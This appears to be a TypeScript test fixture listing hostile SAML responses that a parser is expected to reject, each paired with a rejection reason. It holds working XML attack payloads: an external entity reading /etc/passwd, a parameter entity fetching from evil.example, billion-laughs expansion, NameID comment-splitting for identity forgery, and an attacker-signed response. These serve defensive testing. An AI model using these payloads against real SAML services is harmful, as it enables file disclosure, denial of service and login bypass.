/** Attacks on the text itself, before any signature matters: catalogue S22 to S29, and S58. */
import { type AttackRow, type Change, outer, swap, swapping } from './saml-attack-row.ts';
import { attackerKey } from './saml-keys.ts';

const addToExtensions = (inside: string): Change =>
  swapping('<samlp:Status>', `<samlp:Extensions>${inside}</samlp:Extensions><samlp:Status>`);
const repeat = (count: number, piece: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => piece(index)).join('');

const inNameId =
  (piece: string): Change =>
  (xml, context) =>
    swap(xml, `>${context.nameId}</`, `>${context.nameId}${piece}</`);
const doctype =
  (text: string): Change =>
  (xml) =>
    `<!DOCTYPE ${text}>${xml}`;

const text: readonly AttackRow[] = [
  {
    line: 'S22',
    name: 'NameID split by a comment',
    reason: 'saml.comment',
    after: inNameId('<!---->.evil.example'),
  },
  {
    line: 'S22',
    name: 'NameID split by an instruction',
    reason: 'saml.processing_instruction',
    after: inNameId('<?x y?>.evil.example'),
  },
  {
    line: 'S22',
    name: 'NameID with CDATA',
    reason: 'saml.cdata',
    after: inNameId('<![CDATA[.evil.example]]>'),
  },
  { line: 'S22', name: 'NameID with an unknown entity', reason: 'saml.entity', after: inNameId('&evil;') },
  {
    line: 'S22',
    name: 'NameID with an element inside, signed',
    reason: 'saml.name_id',
    edit: inNameId('<saml:x/>.evil'),
  },
  { line: 'S23', name: 'empty DOCTYPE', reason: 'saml.doctype', after: doctype('samlp:Response') },
  {
    line: 'S23',
    name: 'internal entity',
    reason: 'saml.doctype',
    after: doctype('samlp:Response [<!ENTITY e "evil">]'),
  },
  {
    line: 'S23',
    name: 'external entity',
    reason: 'saml.doctype',
    after: doctype('samlp:Response [<!ENTITY e SYSTEM "file:///etc/passwd">]'),
  },
  {
    line: 'S23',
    name: 'parameter entity',
    reason: 'saml.doctype',
    after: doctype('samlp:Response [<!ENTITY % e SYSTEM "http://evil.example/x"> %e;]'),
  },
  {
    line: 'S24',
    name: 'billion laughs',
    reason: 'saml.doctype',
    after: doctype(
      `r [<!ENTITY a0 "ha">${repeat(9, (i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`)}]`,
    ),
  },
  {
    line: 'S24',
    name: '10 000 levels',
    reason: 'saml.too_deep',
    after: addToExtensions('<samlp:x>'.repeat(10_000) + '</samlp:x>'.repeat(10_000)),
  },
  {
    line: 'S24',
    name: '10 000 attributes',
    reason: 'saml.too_many_attributes',
    after: addToExtensions(`<samlp:x${repeat(10_000, (i) => ` a${i}=""`)}/>`),
  },
  {
    line: 'S24',
    name: '10 000 namespace declarations',
    reason: 'saml.too_many_attributes',
    after: addToExtensions(`<samlp:x${repeat(10_000, (i) => ` xmlns:n${i}="u"`)}/>`),
  },
  {
    line: 'S24',
    name: '10 000 elements',
    reason: 'saml.too_many_elements',
    after: addToExtensions('<samlp:x/>'.repeat(10_000)),
  },
  {
    line: 'S25',
    name: 'more than 256 KB',
    reason: 'saml.too_large',
    after: (xml) => xml + ' '.repeat(260 * 1024),
  },
  { line: 'S26', name: 'two roots', reason: 'saml.malformed', after: (xml) => xml + xml },
  { line: 'S26', name: 'text before the root', reason: 'saml.malformed', after: (xml) => `junk${xml}` },
  { line: 'S26', name: 'text after the root', reason: 'saml.malformed', after: (xml) => `${xml}junk` },
  { line: 'S26', name: 'byte order mark', reason: 'saml.encoding', after: (xml) => `\uFEFF${xml}` },
  { line: 'S26', name: 'NUL', reason: 'saml.encoding', after: (xml) => `${xml}\u0000` },
  {
    line: 'S26',
    name: 'UTF-16',
    reason: 'saml.encoding',
    encode: (xml) => Buffer.from(xml, 'utf16le').toString('base64'),
  },
  {
    line: 'S26',
    name: 'overlong UTF-8',
    reason: 'saml.encoding',
    encode: (xml) => Buffer.concat([Buffer.from(xml), Buffer.from([0xc0, 0xaf])]).toString('base64'),
  },
  {
    line: 'S26',
    name: 'another encoding declared',
    reason: 'saml.processing_instruction',
    after: (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`,
  },
  {
    line: 'S27',
    name: 'foreign characters in base64',
    reason: 'saml.base64',
    encode: (xml) => insert(b64(xml), '*#*'),
  },
  { line: 'S27', name: 'URL alphabet', reason: 'saml.base64', encode: (xml) => insert(b64(xml), '-_') },
  {
    line: 'S27',
    name: 'whitespace flood',
    reason: 'saml.base64',
    encode: (xml) => insert(b64(xml), '\r\n'.repeat(500)),
  },
  {
    line: 'S27',
    name: 'wrong padding',
    reason: 'saml.base64',
    encode: (xml) => `${b64(xml).replace(/=+$/, '')}===`,
  },
  { line: 'S27', name: 'spaces', reason: 'saml.base64', encode: (xml) => insert(b64(xml), ' ') },
];

const b64 = (xml: string): string => Buffer.from(xml).toString('base64');
const insert = (base64: string, piece: string): string => `${base64.slice(0, 64)}${piece}${base64.slice(64)}`;
const ENCRYPTED =
  '<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/></saml:EncryptedAssertion>';

const XENC = 'http://www.w3.org/2001/04/xmlenc#';
const VALUE = `<xenc:CipherData><xenc:CipherValue>${'A'.repeat(342)}==</xenc:CipherValue></xenc:CipherData>`;

/** An encrypted assertion of that form, with nothing behind its ciphertext. */
const claiming = (content: string, key: string): string =>
  `<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="${XENC}"><xenc:EncryptionMethod Algorithm="${content}"/><ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><xenc:EncryptedKey><xenc:EncryptionMethod Algorithm="${key}"/>${VALUE}</xenc:EncryptedKey></ds:KeyInfo>${VALUE}</xenc:EncryptedData></saml:EncryptedAssertion>`;

const GCM = 'http://www.w3.org/2009/xmlenc11#aes256-gcm';
const OAEP = `${XENC}rsa-oaep-mgf1p`;

/** Well formed, with algorithms that are allowed, and nothing that a key could open. */
export const UNOPENABLE = claiming(GCM, OAEP);

const algorithms: readonly AttackRow[] = (
  [
    ['AES-CBC', claiming(`${XENC}aes256-cbc`, OAEP), 'saml.encryption_algorithm'],
    ['3DES', claiming(`${XENC}tripledes-cbc`, OAEP), 'saml.encryption_algorithm'],
    ['RSA-1_5', claiming(GCM, `${XENC}rsa-1_5`), 'saml.encryption_algorithm'],
    ['no algorithm', claiming('', ''), 'saml.encryption_algorithm'],
    ['ciphertext of nothing', claiming(GCM, OAEP), 'saml.decryption'],
  ] as const
).map(([name, piece, reason]) => ({
  line: 'S30',
  name: `encrypted with ${name}, response signed`,
  reason,
  mode: 'response',
  edit: (xml) => swap(xml, outer(xml, 'saml:Assertion'), piece),
}));

const encrypted: readonly AttackRow[] = [
  ...algorithms,
  {
    line: 'S28',
    name: 'encrypted assertion in an unsigned response',
    reason: 'saml.encryption_shape',
    mode: 'none',
    edit: (xml) => swap(xml, outer(xml, 'saml:Assertion'), ENCRYPTED),
  },
  {
    line: 'S29',
    name: 'encrypted assertion before the signed one',
    reason: 'saml.assertion_count',
    after: swapping('<saml:Assertion', `${ENCRYPTED}<saml:Assertion`),
  },
  {
    line: 'S58',
    name: "another organization's identity provider signed it",
    reason: 'saml.signature',
    mode: 'both',
    signer: () => attackerKey(),
  },
];

export const TEXT_ATTACKS: readonly AttackRow[] = [...text, ...encrypted];
